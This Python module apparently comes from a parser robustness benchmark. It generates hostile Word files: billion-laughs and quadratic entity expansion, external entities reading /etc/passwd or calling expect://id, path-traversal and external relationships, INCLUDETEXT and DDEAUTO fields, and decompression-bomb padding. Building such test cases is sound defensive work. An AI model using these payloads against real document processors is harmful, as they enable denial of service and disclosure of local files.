"""Word files: too deep, too wide, too large when unpacked, or pointing elsewhere."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from random import Random
from xml.sax.saxutils import escape

from benchmarks.attack.archives import MEGABYTE, zipped
from benchmarks.attack.words import odd, speech

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_P = "http://schemas.openxmlformats.org/package/2006"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = (
    f'<Types xmlns="{_P}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/></Types>'
)
_RELATION = f'<Relationship Id="{{}}" Type="{_R}/{{}}" Target="{{}}"{{}}/>'
_STARTS = ("-9", "99999999999999", "a", "1")
_FORMATS = ("chineseCounting", "upperRoman", "lowerLetter", "b")
_TEXT = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"


def docx(
    body: str, *, head: str = "", relations: str = "", more: dict[str, str] | None = None
) -> bytes:
    """A Word file. head: before the root of its document; more: parts, or other words for them."""
    office = _RELATION.format("d", "officeDocument", "word/document.xml", "")
    named = f'xmlns:w="{_W}" xmlns:r="{_R}"'
    files = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": f'<Relationships xmlns="{_P}/relationships">{office}</Relationships>',
        "word/document.xml": f"{head}<w:document {named}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{_P}/relationships">{relations}</Relationships>'
        ),
        **(more or {}),
    }
    return zipped({name: text.encode("utf-8", "surrogatepass") for name, text in files.items()})


def _lines(chance: Random) -> str:
    return "".join(_TEXT.format(escape(line)) for line in speech(chance).split("\n"))


def _deep(chance: Random) -> bytes:
    depth, tag = (
        chance.choice((200, 300, 5_000, 100_000)),
        chance.choice(("w:sdt", "w:p", "w:r", "a")),
    )
    return docx(f"<{tag}>" * depth + _lines(chance) + f"</{tag}>" * depth)


def _tables(chance: Random) -> bytes:
    depth = chance.choice((40, 80, 1_000, 10_000))
    start, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx(start * depth + _lines(chance) + end * depth)


def _wide_table(chance: Random) -> bytes:
    row = "<w:tr>" + f"<w:tc>{_TEXT.format('代表')}</w:tc>" * chance.choice((60, 3_000)) + "</w:tr>"
    return docx("<w:tbl>" + row * chance.choice((1, 100)) + "</w:tbl>" + _lines(chance))


def _laughs(chance: Random) -> bytes:
    """Entities of entities, a thousand million laughs."""
    defined = '<!ENTITY a0 "哈">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, chance.randint(3, 12))
    )
    last = defined.count("ENTITY") - 1
    return docx(_TEXT.format(f"&a{last};"), head=f"<!DOCTYPE a [{defined}]>")


def _quadratic(chance: Random) -> bytes:
    defined = f'<!ENTITY a "{"哈" * 50_000}">'
    return docx(_TEXT.format("&a;" * 2_000), head=f"<!DOCTYPE a [{defined}]>")


def _outside(chance: Random) -> bytes:
    address = chance.choice(
        (
            "file:///etc/passwd",
            "http://127.0.0.1:9/a",
            "ftp://127.0.0.1/a",
            "/dev/zero",
            "expect://id",
        )
    )
    kind = chance.choice(("SYSTEM", 'PUBLIC "a"'))
    head = chance.choice(
        (
            f'<!DOCTYPE a [<!ENTITY b {kind} "{address}">]>',
            f'<!DOCTYPE a [<!ENTITY % b {kind} "{address}"> %b;]>',
            f'<!DOCTYPE a {kind} "{address}">',
        )
    )
    return docx(_TEXT.format("&b;") + _lines(chance), head=head)


def _relations(chance: Random) -> bytes:
    kinds = ("styles", "numbering", "footnotes", "header", "image", "attachedTemplate", "oleObject")
    targets = (
        "file:///etc/passwd",
        "http://127.0.0.1:9/",
        "../../../etc/passwd",
        "/",
        "",
        "document.xml",
    )
    outside = ' TargetMode="External"'
    rows = [
        _RELATION.format(
            f"r{n}", chance.choice(kinds), chance.choice(targets), chance.choice(("", outside))
        )
        for n in range(chance.choice((5, 500)))
    ]
    return docx(_lines(chance), relations="".join(rows))


def _attribute(chance: Random) -> bytes:
    size = chance.choice((1, 9, 20)) * MEGABYTE
    return docx(f'<w:p w:rsidR="{"a" * size}"/>' + _lines(chance))


def _attributes(chance: Random) -> bytes:
    some = " ".join(f'w:a{n}="1"' for n in range(chance.choice((1_000, 100_000))))
    return docx(f"<w:p {some}/>" + _lines(chance))


def _runs(chance: Random) -> bytes:
    run = "<w:r><w:t>讲</w:t></w:r>"
    return docx(
        "<w:p>" + run * chance.choice((20_000, 300_000, 1_000_000)) + "</w:p>" + _lines(chance)
    )


def _paragraphs(chance: Random) -> bytes:
    return docx(chance.choice(("<w:p/>", _TEXT.format("讲"))) * chance.choice((19_000, 200_000)))


def _bomb(chance: Random) -> bytes:
    return docx(_TEXT.format(" " * chance.choice((20, 30, 60)) * MEGABYTE) + _lines(chance))


def _parts(chance: Random) -> bytes:
    number = chance.choice((150, 3_000))
    kind = chance.choice(("header", "footer", "footnotes", "styles"))
    rows = "".join(_RELATION.format(f"r{n}", kind, f"h{n}.xml", "") for n in range(number))
    part = f'<w:hdr xmlns:w="{_W}">{_TEXT.format("头")}</w:hdr>'
    more = {f"word/h{n}.xml": part for n in range(number)}
    used = "".join(f'<w:headerReference w:type="default" r:id="r{n}"/>' for n in range(number))
    return docx(f"{_lines(chance)}<w:sectPr>{used}</w:sectPr>", relations=rows, more=more)


def _styles(chance: Random) -> bytes:
    """Styles that are based on each other in a circle, and numbers that no list has."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}">'
        f'<w:basedOn w:val="s{(n + 1) % 5000}"/></w:style>'
        for n in range(5000)
    )
    body = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="s{n}"/><w:numPr><w:ilvl w:val="{level}"/>'
        f'<w:numId w:val="{n}"/></w:numPr><w:outlineLvl w:val="{level}"/></w:pPr>'
        f"<w:r><w:t>讲话{n}</w:t></w:r></w:p>"
        for n, level in enumerate(
            chance.choices(("0", "-1", "99999999999999999999", "a", ""), k=300)
        )
    )
    levels = "".join(
        f'<w:lvl w:ilvl="{n}"><w:start w:val="{chance.choice(_STARTS)}"/>'
        f'<w:numFmt w:val="{chance.choice(_FORMATS)}"/>'
        '<w:lvlText w:val="%1%2%3%9%%"/></w:lvl>'
        for n in range(9)
    )
    numbering = f'<w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>' + "".join(
        f'<w:num w:numId="{n}"><w:abstractNumId w:val="0"/></w:num>' for n in range(300)
    )
    rows = _RELATION.format("s", "styles", "styles.xml", "") + _RELATION.format(
        "n", "numbering", "numbering.xml", ""
    )
    more = {
        "word/styles.xml": f'<w:styles xmlns:w="{_W}">{styles}</w:styles>',
        "word/numbering.xml": f'<w:numbering xmlns:w="{_W}">{numbering}</w:numbering>',
    }
    return docx(body, relations=rows, more=more)


def _odd_characters(chance: Random) -> bytes:
    references = "&#0;&#xD800;&#x110000;&#xFFFE;&#1;" if chance.random() < 0.5 else ""
    said = odd(chance, 3000).replace("&", "").replace("<", "")
    return docx(_TEXT.format(said + references) + _lines(chance))


def _broken(chance: Random) -> bytes:
    data = bytearray(docx(_lines(chance)))
    for _ in range(chance.randint(1, 30)):
        data[chance.randrange(4, len(data))] = chance.randrange(256)
    return bytes(data[: chance.randint(len(data) // 3, len(data))])


def _unclosed(chance: Random) -> bytes:
    body = _lines(chance)
    return docx(body[: chance.randrange(len(body))])


def _instructions(chance: Random) -> bytes:
    """Fields and alternates that include what lies elsewhere."""
    field = '<w:instrText> INCLUDETEXT "/etc/passwd" </w:instrText>'
    field += "<w:instrText>DDEAUTO c:\\a</w:instrText>"
    chunk = '<w:altChunk r:id="x"/><w:subDoc r:id="x"/>'
    row = _RELATION.format("x", "aFChunk", "file:///etc/passwd", ' TargetMode="External"')
    return docx(f"<w:p><w:r>{field}</w:r></w:p>{chunk}{_lines(chance)}", relations=row)


def _encodings(chance: Random) -> bytes:
    name = chance.choice(("utf-16", "utf-7", "gb18030", "cp037", "nonsense", "utf-32"))
    head = f'<?xml version="1.0" encoding="{name}"?>'
    return docx(_lines(chance), head=head)


WAYS: Mapping[str, Callable[[Random], bytes]] = {
    "docx: deep": _deep,
    "docx: nested tables": _tables,
    "docx: wide table": _wide_table,
    "docx: laughs": _laughs,
    "docx: quadratic entities": _quadratic,
    "docx: outside entities": _outside,
    "docx: outside relations": _relations,
    "docx: long attribute": _attribute,
    "docx: many attributes": _attributes,
    "docx: many runs": _runs,
    "docx: many paragraphs": _paragraphs,
    "docx: bomb": _bomb,
    "docx: many parts": _parts,
    "docx: circular styles": _styles,
    "docx: odd characters": _odd_characters,
    "docx: broken": _broken,
    "docx: unclosed": _unclosed,
    "docx: includes": _instructions,
    "docx: encodings": _encodings,
}
